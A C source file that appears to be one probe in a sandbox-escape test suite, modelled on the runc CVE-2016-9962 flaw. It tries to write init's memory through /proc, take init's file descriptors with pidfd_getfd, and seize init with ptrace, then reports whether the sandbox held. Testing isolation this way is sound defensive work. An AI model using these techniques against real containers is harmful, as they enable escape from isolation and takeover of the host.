/*
 * Idea: pid 1 of the sandbox is the runtime's, and holds what the runtime left it: descriptors, memory, a way to
 * talk to the outside. It runs under our uid. Debug it, write to its memory, take its descriptors, kill it.
 * Incident: CVE-2016-9962: runc's init could be ptraced by the container before it had dropped its descriptors.
 * Success: init can be attached to, its memory opened, or one of its descriptors taken.
 * Usage: tamper-with-init PID (of init; 1 inside a sandbox)
 */
#include "attempt.h"
#include <dirent.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/uio.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

int main(int argc, char **argv) {
  const char *init = argument(argc, argv, 1, "the process id of init");
  char path[64];
  snprintf(path, sizeof path, "/proc/%s/mem", init);
  open_for_writing(path);

  int process = syscall(SYS_pidfd_open, atoi(init), 0);
  if (process < 0) stopped("pidfd_open %s", init);
  for (int descriptor = 0; process >= 0 && descriptor < 64; descriptor++) {
    if (syscall(SYS_pidfd_getfd, process, descriptor, 0) >= 0) escaped("took descriptor %d of init", descriptor);
    if (descriptor == 0) stopped("pidfd_getfd %s", init);
  }
  snprintf(path, sizeof path, "/proc/%s/fd", init);
  DIR *descriptors = opendir(path);
  if (descriptors && readdir(descriptors)) escaped("the descriptors of init can be listed");
  stopped("open %s", path);
  if (ptrace(PTRACE_SEIZE, atoi(init), NULL, NULL) == 0) escaped("seized init");
  stopped("ptrace(SEIZE, %s)", init);
  contained();
}
